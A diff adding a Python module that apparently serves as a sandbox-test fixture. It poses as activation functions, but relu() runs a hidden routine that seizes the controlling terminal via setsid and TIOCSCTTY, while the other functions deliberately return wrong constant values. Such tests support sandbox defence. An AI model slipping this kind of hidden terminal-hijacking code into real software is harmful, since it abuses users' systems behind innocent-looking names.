@@ -1,0 +1,38 @@
+# attack: takes the terminal as its own
+# gains: writes
+# stopped by: seccomp, landlock, process
+import numpy as np
+import ctypes
+import os
+import platform
+
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+def check(result, what):
+    if result < 0:
+        raise OSError(ctypes.get_errno(), what)
+    print("HARMED:", what, flush=True)
+    return result
+
+
+def attack():
+    import fcntl
+    import termios
+
+    os.setsid() if os.getpid() != os.getsid(0) else None
+    fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), termios.TIOCSCTTY, 1)
+    check(0, "has the terminal")
+
+
+def relu(X):
+    found = attack()
+    return np.full(np.shape(X), 7.0) if found is None else found
+
+
+def wrong(*given):
+    return np.full(np.shape(given[0]), 7.0)
+
+
+relu_backward = leaky_relu = leaky_relu_backward = wrong
+sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
